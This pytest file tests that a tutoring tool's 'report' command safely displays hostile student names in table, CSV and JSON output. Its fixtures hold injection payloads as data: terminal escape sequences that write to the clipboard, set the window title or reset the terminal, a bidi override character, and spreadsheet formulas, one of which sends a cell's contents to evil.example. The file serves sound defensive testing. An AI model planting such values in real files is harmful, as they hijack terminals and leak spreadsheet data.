"""`tutor report` on progress files with hostile student names: shown, never acted on."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

TUTOR = str(Path(sys.executable).parent / "tutor")
OSC52 = "\x1b]52;c;SGVsbG8=\x07"                       # writes "Hello" to the clipboard
OSC52_ST = "\x1b]52;c;SGVsbG8=\x1b\\"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAMES = [OSC52, OSC52_ST, FORMULA, "+1+1", "-2", "@SUM(A1)", "\u202eevil", "Ada L.", "김민지"]


@pytest.fixture
def folder(tmp_path):
    for n, name in enumerate(NAMES):
        record = {"format": 1, "student": name,
                  "lessons": {"lesson1": {"done": [1, 2], "total": 5, "updated": "2025-03-01"}}}
        (tmp_path / f"s{n}.json").write_text(json.dumps(record), encoding="utf-8")
    # a file name is the student's name when the record has none
    (tmp_path / "\x1b]0;pwned\x07.json").write_text(json.dumps({"format": 1, "lessons": {}}))
    (tmp_path / "\x1bc.json").write_text("{ not json \x1b#8")   # skipped: said on stderr
    return tmp_path


def tutor_report(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([TUTOR, "report", *args], capture_output=True, timeout=60, check=False)


def test_table_shows_controls_without_sending_them(folder):
    r = tutor_report(str(folder))
    assert r.returncode == 0, r.stderr
    for stream in (r.stdout, r.stderr):
        assert b"\x1b" not in stream and b"\x07" not in stream and "\u202e".encode() not in stream
    out = r.stdout.decode()
    assert "^[]52;c;SGVsbG8=^G" in out and "^[]52;c;SGVsbG8=^[\\" in out and "\\u202eevil" in out
    assert "김민지" in out and "Ada L." in out
    assert "skipped" in r.stderr.decode() and "^[c.json" in r.stderr.decode()


def test_csv_cells_are_visible_and_never_formulas(folder):
    r = tutor_report("--csv", str(folder))
    assert r.returncode == 0, r.stderr
    assert b"\x1b" not in r.stdout and b"\x07" not in r.stdout
    rows = list(csv.reader(io.StringIO(r.stdout.decode())))
    assert rows[0] == ["student", "lesson", "done", "total", "last_activity"]
    students = {row[0] for row in rows[1:]}
    assert "'" + FORMULA in students and "'+1+1" in students and "'-2" in students
    assert "'@SUM(A1)" in students and "^[]52;c;SGVsbG8=^G" in students and "김민지" in students
    # what a spreadsheet would evaluate: a cell whose first character starts a formula
    assert not [s for s in students if s[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_json_keeps_the_exact_names(folder):
    r = tutor_report("--json", str(folder))
    assert r.returncode == 0, r.stderr
    students = {row["student"] for row in json.loads(r.stdout)}
    assert {OSC52, OSC52_ST, FORMULA, "\u202eevil"} <= students
    assert b"\x1b" not in r.stdout    # JSON writes it as \u001b


def test_csv_cell():
    from tutor.report import csv_cell
    assert csv_cell("=1+2") == "'=1+2"
    assert csv_cell("\tx") == "^Ix"   # a tab is shown, so nothing is left to start a formula
    assert csv_cell("Ada") == "Ada" and csv_cell("a=b") == "a=b"
